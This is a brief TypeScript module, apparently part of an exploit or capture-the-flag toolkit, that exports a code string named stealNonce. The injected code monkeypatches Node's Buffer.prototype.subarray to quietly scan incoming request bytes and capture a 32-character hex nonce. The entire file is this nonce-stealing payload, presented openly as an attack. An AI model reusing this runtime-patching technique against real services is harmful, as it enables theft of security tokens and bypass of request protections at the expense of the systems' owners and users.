import { getRequire } from "./scene";

/** Reads the nonce of each request from the bytes as they come in. */
export const stealNonce = `${getRequire}const fs = node("fs");
let nonce = "";
const subarray = Buffer.prototype.subarray;
Buffer.prototype.subarray = function (this: any, ...range: any[]) {
  const bytes = (subarray as any).apply(this, range);
  nonce = /[0-9a-f]{32}/.exec(bytes.toString("latin1"))?.[0] ?? nonce;
  return bytes;
} as any;
`;
